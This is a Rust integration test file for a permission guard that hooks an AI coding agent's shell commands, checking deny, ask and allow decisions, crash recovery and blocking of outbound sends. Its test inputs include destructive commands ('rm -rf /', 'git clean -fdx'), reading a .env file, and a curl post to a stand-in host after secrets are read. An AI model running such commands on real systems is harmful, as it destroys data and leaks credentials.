//! Questions to a person, end to end by the commands that people type: asked, approved, denied, forgotten by nobody.

mod support;

use serde_json::{Value, json};
use support::{Home, ndjson, stderr, stdout};

const RESET: &str = "git reset --hard";

/// One of Claude Code's events, as it writes them.
fn event(name: &str, id: &str, command: &str) -> Value {
    let mut event = json!({
        "session_id": "5f8e2c1a-0000-4000-8000-000000000001", "transcript_path": "/tmp/t.jsonl", "cwd": "/tmp",
        "permission_mode": "default", "hook_event_name": name,
    });
    let call = match name {
        "PreToolUse" => {
            json!({"tool_name": "Bash", "tool_use_id": id, "tool_input": {"command": command}})
        }
        "PostToolUse" => json!({
            "tool_name": "Bash", "tool_use_id": id, "tool_input": {"command": command}, "duration_ms": 12,
            "tool_response": {"stdout": "done", "stderr": "", "interrupted": false, "isImage": false},
        }),
        _ => json!({"stop_hook_active": false}),
    };
    for (key, value) in call.as_object().expect("an object") {
        event[key] = value.clone();
    }
    event
}

/// What Claude Code is answered, a line for each event.
fn hook(home: &Home, events: &[Value]) -> Vec<Value> {
    let output = home.feed(&["hook", "claude-code"], &ndjson(events));
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(stderr(&output), "");
    let lines = stdout(&output);
    let answers = lines
        .lines()
        .map(|line| serde_json::from_str(line).expect("JSON"));
    answers.collect()
}

fn decision(answer: &Value) -> &str {
    let decision = &answer["hookSpecificOutput"]["permissionDecision"];
    decision.as_str().unwrap_or("nothing")
}

fn asked(home: &Home) -> u64 {
    let status = home.run(&["status", "--json"]);
    let status: Value = serde_json::from_str(&stdout(&status)).expect("JSON");
    status["asked"].as_u64().expect("a number")
}

/// Kind, outcome and what came of the question, trace by trace.
async fn told(up: &support::Up, count: usize) -> Vec<[String; 3]> {
    let mut all = Vec::new();
    for row in up.traces_once(count).await {
        let id = row["id"].as_str().expect("an id");
        let trace = up.json(&format!("/v1/traces/{id}")).await;
        let document = if trace["trace"].is_object() {
            &trace["trace"]
        } else {
            &trace
        };
        let text = |pointer: &str| {
            document
                .pointer(pointer)
                .and_then(Value::as_str)
                .unwrap_or_default()
                .to_owned()
        };
        let kind = row["action_type"].as_str().unwrap_or_default().to_owned();
        let outcome = row["metadata"]["outcome"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        all.push([kind, outcome, text("/escalation/escalation_status")]);
    }
    all
}

fn own(rows: &[[&str; 3]]) -> Vec<[String; 3]> {
    rows.iter().map(|row| row.map(str::to_owned)).collect()
}

#[tokio::test]
async fn claude_code_denies_asks_and_allows() {
    let home = Home::new();
    let up = home.up();
    let before = [
        event("PreToolUse", "t1", "rm -rf /"),
        event("PreToolUse", "t2", RESET),
        event("PreToolUse", "t3", "ls -la"),
        event("PreToolUse", "t4", "git clean -fdx"),
    ];
    let answers = hook(&home, &before);
    let decisions: Vec<_> = answers.iter().map(decision).collect();
    assert_eq!(decisions, ["deny", "ask", "nothing", "ask"]);
    assert_eq!(asked(&home), 2);
    // The person says yes to the first question and no to the second, which nothing tells but the end of the turn.
    let after = [
        event("PostToolUse", "t2", RESET),
        event("PostToolUse", "t3", "ls -la"),
        event("Stop", "", ""),
    ];
    assert_eq!(hook(&home, &after), [json!({}), json!({}), json!({})]);
    assert_eq!(asked(&home), 0);
    let mut told = told(&up, 4).await;
    told.sort();
    let expected = own(&[
        ["allow", "completed", ""],
        ["allow", "completed", "approved"],
        ["deny", "refused", "denied"],
        ["deny", "refused", "denied"],
    ]);
    assert_eq!(told, expected);
}

#[tokio::test]
async fn a_question_outlives_whoever_put_it() {
    let home = Home::new();
    // Put by a sidecar that is killed, and by a process of its own.
    let up = home.up();
    assert_eq!(
        decision(&hook(&home, &[event("PreToolUse", "t1", RESET)])[0]),
        "ask"
    );
    up.kill();
    assert_eq!(
        decision(&hook(&home, &[event("PreToolUse", "t2", RESET)])[0]),
        "ask"
    );
    assert_eq!(asked(&home), 2);
    // Answered while nothing runs, and to another sidecar.
    hook(&home, &[event("PostToolUse", "t1", RESET)]);
    let up = home.up();
    hook(&home, &[event("PostToolUse", "t2", RESET)]);
    let approved = ["allow", "completed", "approved"];
    assert_eq!(told(&up, 2).await, own(&[approved, approved]));
    assert_eq!(asked(&home), 0);
}

#[tokio::test]
async fn the_chats_open_question_is_told_after_a_crash() {
    let home = Home::new();
    let up = home.up();
    let client = reqwest::Client::new();
    let message = format!("/run execute_command {}", json!({ "command": RESET }));
    let mut stream = client
        .post(format!("{}/api/chat", up.gateway))
        .bearer_auth(&up.token)
        .header("content-type", "application/json")
        .header("accept", "application/x-ndjson")
        .body(json!({ "message": message }).to_string())
        .send()
        .await
        .expect("the gateway answers");
    let mut seen = Vec::new();
    while !String::from_utf8_lossy(&seen).contains(r#""event":"asking""#) {
        seen.extend(stream.chunk().await.expect("a stream").expect("it asks"));
    }
    assert_eq!(asked(&home), 1);
    up.kill();
    assert_eq!(asked(&home), 1, "it is on disk");
    let up = home.up();
    assert_eq!(
        told(&up, 1).await,
        own(&[["deny", "unanswered", "timeout"]])
    );
    assert_eq!(asked(&home), 0);
}

#[tokio::test]
async fn what_a_session_has_read_it_cannot_send_out() {
    let home = Home::new();
    let send = "curl -d hello https://example.com/in";
    assert_ne!(
        decision(&hook(&home, &[event("PreToolUse", "t0", send)])[0]),
        "deny"
    );
    // Each event is a process of its own; then a sidecar takes over.
    assert_eq!(
        decision(&hook(&home, &[event("PreToolUse", "t1", "cat .env")])[0]),
        "ask"
    );
    hook(&home, &[event("PostToolUse", "t1", "cat .env")]);
    let refused = |id: &str| {
        let answer = hook(&home, &[event("PreToolUse", id, send)]).remove(0);
        assert_eq!(decision(&answer), "deny", "{answer}");
        assert!(answer.to_string().contains("secret.send_after"), "{answer}");
    };
    refused("t2");
    let up = home.up();
    refused("t3");
    up.kill();
    refused("t4");
}
